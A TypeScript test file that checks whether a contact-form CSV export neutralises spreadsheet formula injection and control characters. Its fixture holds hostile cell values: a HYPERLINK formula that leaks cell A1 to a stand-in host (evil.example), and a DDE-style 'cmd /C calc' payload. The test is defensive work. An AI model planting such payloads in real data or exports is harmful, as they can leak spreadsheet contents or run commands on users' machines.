// The CSV export opened in a spreadsheet: whatever a visitor typed (or a record stored before
// control characters were removed at the form), no cell runs as a formula and none carries a
// control character, read with a comma as separator or, as a Dutch spreadsheet does, a semicolon.
import { csvCells } from '../../support/csv-cells';
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { toCsv } from '../../../server/store/export';
import { openDatabase } from '../../../server/store/database';
import { createSubmissionStore } from '../../../server/store/submissions';
import { tempDir } from './helpers/setup';

const HOSTILE = {
  name: '\u0000=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
  email: 'sam@example.nl',
  phone: '\u001b+31 6 12345678',
  message: 'Sam;=1+1',
  city: 'Tiel;@SUM(1+1)*cmd|\' /C calc\'!A0',
  remark: '\t=2+5',
};


describe('the CSV export in a spreadsheet', () => {
  test('no cell starts a formula and none carries a control character, with , or ; as separator', (t) => {
    const db = openDatabase(tempDir(t));
    t.after(() => db.close());
    const store = createSubmissionStore(db);
    store.save({ form: 'contact', collection: 'contact-submissions', data: HOSTILE, files: [] });
    const csv = toCsv(store.list({ form: 'contact' }));
    for (const separator of [',', ';']) {
      for (const cell of csvCells(csv, separator)) {
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell with "${separator}": ${JSON.stringify(cell)}`);
        // eslint-disable-next-line no-control-regex -- control characters are what this is about
        assert.doesNotMatch(cell, /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/, `a control character: ${JSON.stringify(cell)}`);
      }
    }
    // What was typed is still all there, behind the apostrophe.
    const row = csvCells(csv, ',');
    assert.ok(row.includes(`'=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")`), csv);
    assert.ok(row.includes("'+31 6 12345678"));
    assert.ok(row.includes('Sam;=1+1'));
    assert.ok(row.includes("'\t=2+5"));
  });
});
